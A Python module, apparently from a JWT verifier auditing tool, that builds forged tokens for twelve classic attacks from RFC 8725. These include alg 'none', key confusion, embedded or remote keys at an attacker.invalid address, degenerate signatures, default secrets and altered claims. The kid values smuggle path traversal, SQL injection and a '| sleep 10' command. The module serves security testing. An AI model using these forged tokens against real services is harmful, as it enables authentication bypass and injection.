"""The twelve classic attacks on verifiers of tokens, each minted for one key of a verifier.

What they are and whom they met: RFC 8725, sections 2 and 3.
"""

import json
from base64 import b64encode
from collections.abc import Callable, Iterator, Mapping
from typing import Any, NamedTuple

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from jwtriage.guard.canary import CANARY_SUBJECT
from jwtriage.jose.algorithms import ALGORITHMS
from jwtriage.jose.base64url import decode, encode
from jwtriage.jose.keys import Key
from jwtriage.jose.signing import signature_of
from jwtriage.tasks.minting import as_json, joined, mint, with_signature

_ELSEWHERE = "https://attacker.invalid/keys.json"
_HMAC = ("HS256", "HS384", "HS512")
_NONE_SPELLINGS = ("none", "None", "NONE", "nOnE", "none ", "")
_GUESSES = (b"", b"None", b"\n", b"undefined", b"null", b"secret", b"your-256-bit-secret", b"changeme")
_OTHER_SCHEMES = {"RS": ("PS256", "RS384", "RS512"), "PS": ("RS256", "PS384", "PS512"), "HS": _HMAC, "ES": (), "Ed": ()}
_YEAR = 365 * 86400.0


class Aim(NamedTuple):
    """One key of a verifier, and what an attacker knows beside it.

    ``header`` and ``claims`` are those of a token that the verifier accepts. ``held`` is the verifier's key. ``own`` is a key of the same kind
    with its private half: the attacker's where the verifier holds ``held``, the issuer's where the verifier was made with ``own`` instead.
    ``now`` is in seconds since the epoch. ``others`` are keys of other issuers that the verifier trusts, with the headers of their tokens.
    """

    header: Mapping[str, Any]
    claims: Mapping[str, Any]
    held: Key
    own: Key
    now: float
    others: tuple[tuple[Mapping[str, Any], Key], ...] = ()

    @property
    def alg(self) -> str:
        """The algorithm of the key."""
        return str(self.header["alg"])

    def with_header(self, **members: object) -> bytes:
        """Mint an honest token but for these members of its header."""
        return mint({**self.header, **members}, self.claims, self.own, self.alg)

    def with_claims(self, **members: object) -> bytes:
        """Mint an honest token but for these claims; ``None`` leaves one out."""
        changed = {name: value for name, value in {**self.claims, **members}.items() if value is not None}
        return mint(self.header, changed, self.own)

    def unsigned(self, **members: object) -> bytes:
        """Return header and claims with an empty signature."""
        return joined(as_json({**self.header, **members}), as_json(self.claims)) + b"."


class Attempt(NamedTuple):
    """One token of an attack, and how it differs from the attack's others.

    ``id`` is that of the finding where it succeeds, the attack's own if it is empty. ``signed`` tells that the token is properly signed: such an
    attempt is made on a twin of the verifier, which demands the same and holds ``Aim.own``.
    """

    how: str
    token: bytes
    id: str = ""
    signed: bool = False

    def __repr__(self) -> str:
        """Name it without its token, which a careless verifier would accept."""
        return f"Attempt({self.how!r})"


class Attack(NamedTuple):
    """One of the twelve; ``id`` is that of the finding where it succeeds."""

    name: str
    id: str
    attempts: Callable[[Aim], Iterator[Attempt]]


def _none(aim: Aim) -> Iterator[Attempt]:
    for spelling in _NONE_SPELLINGS:
        yield Attempt(f"alg {spelling!r}", aim.unsigned(alg=spelling))
    signing_input = aim.unsigned(alg="none")[:-1]
    yield Attempt("alg none, with a signature", with_signature(signing_input, signature_of(ALGORITHMS[aim.alg], aim.own, signing_input)))
    yield Attempt("no alg", joined(as_json({"typ": "JWT"}), as_json(aim.claims)) + b".")


def _public_key_as_secret(aim: Aim) -> Iterator[Attempt]:
    if aim.held.public is None:
        return
    for form, secret in _public_texts(aim.held):
        for alg in _HMAC:
            header = {**aim.header, "alg": alg}
            yield Attempt(f"{alg} with the public key as {form}", mint(header, aim.claims, Key.from_secret(secret)))


def _public_texts(key: Key) -> Iterator[tuple[str, bytes]]:
    """Yield the texts in which a public key goes around."""
    der = key.spki_der()
    body = b64encode(der).decode()
    lines = "\n".join(body[at : at + 64] for at in range(0, len(body), 64))
    pem = f"-----BEGIN PUBLIC KEY-----\n{lines}\n-----END PUBLIC KEY-----"
    yield "PEM", f"{pem}\n".encode()
    yield "PEM without its last line end", pem.encode()
    yield "DER", der
    yield "base64", body.encode()
    yield "JWK", json.dumps(key.members).encode()
    yield "JWK without blanks", as_json(key.members)
    if key.kind == "RSA" and key.public is not None:
        yield "PKCS #1", key.public.public_bytes(Encoding.PEM, PublicFormat.PKCS1)


def _key_in_token(aim: Aim) -> Iterator[Attempt]:
    if aim.own.public is None:
        yield Attempt("jwk", aim.with_header(jwk={"kty": "oct", "k": encode(aim.own.octets)}))
        return
    jwk = dict(aim.own.members)
    yield Attempt("jwk", aim.with_header(jwk=jwk))
    yield Attempt("jwk with the kid", aim.with_header(jwk={**jwk, "kid": aim.header.get("kid", "a"), "alg": aim.alg}))
    yield Attempt("x5c", aim.with_header(x5c=[b64encode(aim.own.spki_der()).decode()]))


def _address_in_token(aim: Aim) -> Iterator[Attempt]:
    yield Attempt("jku", aim.with_header(jku=_ELSEWHERE))
    yield Attempt("x5u", aim.with_header(x5u=_ELSEWHERE))
    yield Attempt("kid as an address", aim.with_header(kid=_ELSEWHERE))


def _kid(aim: Aim) -> Iterator[Attempt]:
    empty, known = Key.from_secret(b""), Key.from_secret(b"x")
    yield Attempt("a path to an empty file", mint({**aim.header, "alg": "HS256", "kid": "../../../../dev/null"}, aim.claims, empty))
    yield Attempt("SQL", mint({**aim.header, "alg": "HS256", "kid": "' UNION SELECT 'x' --"}, aim.claims, known))
    yield Attempt("a command", aim.with_header(kid="| sleep 10"))
    for value in (None, 7, True, ["a"], {"a": "b"}):
        yield Attempt(f"kid {json.dumps(value)}", aim.with_header(kid=value), signed=True)


def _no_signature(aim: Aim) -> Iterator[Attempt]:
    yield Attempt("empty", aim.unsigned())
    yield Attempt("cut off with its dot", aim.unsigned()[:-1])
    yield Attempt("one octet", with_signature(aim.unsigned()[:-1], b"\x00"))
    signing_input, _, good = aim.with_header().rpartition(b".")
    yield Attempt("a part of a good one", with_signature(signing_input, decode(good)[:-6]), signed=True)


def _degenerate_signature(aim: Aim) -> Iterator[Attempt]:
    signing_input = aim.unsigned()[:-1]
    octets = len(signature_of(ALGORITHMS[aim.alg], aim.own, signing_input))
    one = b"\x01".rjust(octets // 2 or 1, b"\x00")
    for how, signature in (
        ("all zero", bytes(octets)),
        ("one and one", one + one),
        ("one and zeros", b"\x01" + bytes(octets - 1)),
        ("all ones", b"\xff" * octets),
        ("DER of two zeros", b"\x30\x06\x02\x01\x00\x02\x01\x00"),
    ):
        yield Attempt(how, with_signature(signing_input, signature))


def _guessed_secret(aim: Aim) -> Iterator[Attempt]:
    for secret in _GUESSES:
        for alg in _HMAC:
            yield Attempt(f"{alg} with {secret.decode()!r}", mint({**aim.header, "alg": alg}, aim.claims, Key.from_secret(secret)))


def _another_key(aim: Aim) -> Iterator[Attempt]:
    yield Attempt("a fresh key under the kid", aim.with_header())
    yield Attempt("a fresh key under an unknown kid", aim.with_header(kid="no-such-key"))
    header = {name: value for name, value in aim.header.items() if name != "kid"}
    yield Attempt("a fresh key without a kid", mint(header, aim.claims, aim.own))
    for other, key in aim.others:
        yield Attempt("the key of another trusted issuer", mint(other, aim.claims, key), signed=True)


def _header_rules(aim: Aim) -> Iterator[Attempt]:
    yield Attempt("an unknown critical extension", aim.with_header(crit=["urn:example:x"], **{"urn:example:x": True}), signed=True)
    yield Attempt("an empty crit", aim.with_header(crit=[]), signed=True)
    yield Attempt("a crit that names alg", aim.with_header(crit=["alg"]), signed=True)
    yield Attempt("b64 false", aim.with_header(b64=False, crit=["b64"]), signed=True)
    yield Attempt("b64 false, not critical", aim.with_header(b64=False), signed=True)
    yield Attempt("typ of another kind of token", aim.with_header(typ="dpop+jwt"), "type-not-checked", signed=True)
    for alg in _OTHER_SCHEMES.get(aim.alg[:2], ()):
        if alg != aim.alg:
            yield Attempt(f"signed as {alg}", mint({**aim.header, "alg": alg}, aim.claims, aim.own), signed=True)
            yield Attempt(f"signed as {aim.alg}, named {alg}", aim.with_header(alg=alg), signed=True)


def _another_structure(aim: Aim) -> Iterator[Attempt]:
    honest = aim.with_header()
    header, payload, signature = honest.split(b".")
    encrypted = encode(as_json({"alg": "dir", "enc": "A256GCM"})).encode()
    yield Attempt("JWE", b".".join((encrypted, b"", payload, payload, signature)), signed=True)
    yield Attempt("a token inside a token", _signed_octets(aim, {**aim.header, "cty": "JWT"}, honest), signed=True)
    yield Attempt(
        "JSON serialisation", as_json({"protected": header.decode(), "payload": payload.decode(), "signature": signature.decode()}), signed=True
    )
    yield Attempt("four segments", honest + b"." + signature, signed=True)
    yield Attempt("padding", honest + b"=", signed=True)
    yield Attempt("a line end", honest + b"\n", signed=True)
    yield Attempt("alg twice", _signed_text(aim, _doubled(as_json(aim.header), b'"alg":"none"'), as_json(aim.claims)), signed=True)
    yield Attempt("sub twice", _signed_text(aim, as_json(aim.header), _doubled(as_json({**aim.claims, "sub": "a"}), b'"sub":"root"')), signed=True)
    yield Attempt("claims that are no object", _signed_text(aim, as_json(aim.header), as_json([dict(aim.claims)])), signed=True)


def _doubled(text: bytes, member: bytes) -> bytes:
    """Add a member to the text of a JSON object."""
    return text[:-1] + b"," + member + b"}"


def _signed_octets(aim: Aim, header: Mapping[str, Any], payload: bytes) -> bytes:
    return _signed_text(aim, as_json(header), payload)


def _signed_text(aim: Aim, header: bytes, payload: bytes) -> bytes:
    signing_input = joined(header, payload)
    return with_signature(signing_input, signature_of(ALGORITHMS[aim.alg], aim.own, signing_input))


def _other_purpose(aim: Aim) -> Iterator[Attempt]:
    yield Attempt("another issuer", aim.with_claims(iss="https://attacker.invalid"), "issuer-not-checked", signed=True)
    yield Attempt("no issuer", aim.with_claims(iss=None), "issuer-not-checked", signed=True)
    yield Attempt("another audience", aim.with_claims(aud="another-service"), "audience-not-checked", signed=True)
    yield Attempt("no audience", aim.with_claims(aud=None), "audience-not-checked", signed=True)
    yield Attempt("expired", aim.with_claims(exp=aim.now - _YEAR, iat=aim.now - 2 * _YEAR, nbf=None), signed=True)
    yield Attempt("no exp", aim.with_claims(exp=None), "expiry-not-required", signed=True)
    yield Attempt("exp that is no number", aim.with_claims(exp="4102444800"), signed=True)
    yield Attempt("not yet valid", aim.with_claims(nbf=aim.now + _YEAR, exp=aim.now + 2 * _YEAR), signed=True)
    yield Attempt("issued in the future", aim.with_claims(iat=aim.now + _YEAR, exp=aim.now + 2 * _YEAR), signed=True)
    yield Attempt("bound to a sender (cnf)", aim.with_claims(cnf={"jkt": "0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I"}), signed=True)
    yield Attempt("an ID token", aim.with_claims(at_hash="MTIzNDU2Nzg5MDEyMzQ1Ng"), "id-token-accepted", signed=True)
    yield Attempt("a rotation's canary", aim.with_claims(sub=CANARY_SUBJECT), signed=True)


ATTACKS = (
    Attack("alg none, in every spelling", "alg-none-allowed", _none),
    Attack("public key as HMAC secret", "alg-confusion-possible", _public_key_as_secret),
    Attack("key carried by the token", "key-carried-by-token", _key_in_token),
    Attack("key at an address in the token", "key-carried-by-token", _address_in_token),
    Attack("kid as path, SQL, or no text", "kid-not-checked", _kid),
    Attack("no signature", "signature-not-checked", _no_signature),
    Attack("degenerate signature", "signature-not-checked", _degenerate_signature),
    Attack("empty or default secret", "secret-default-or-placeholder", _guessed_secret),
    Attack("another key", "signature-not-checked", _another_key),
    Attack("crit, b64, typ, another algorithm", "algorithms-not-restricted", _header_rules),
    Attack("no JWS, or one with two readings", "ambiguous-token-accepted", _another_structure),
    Attack("claims for another time or place", "claims-not-checked", _other_purpose),
)
"""All twelve, in the order in which they are reported."""
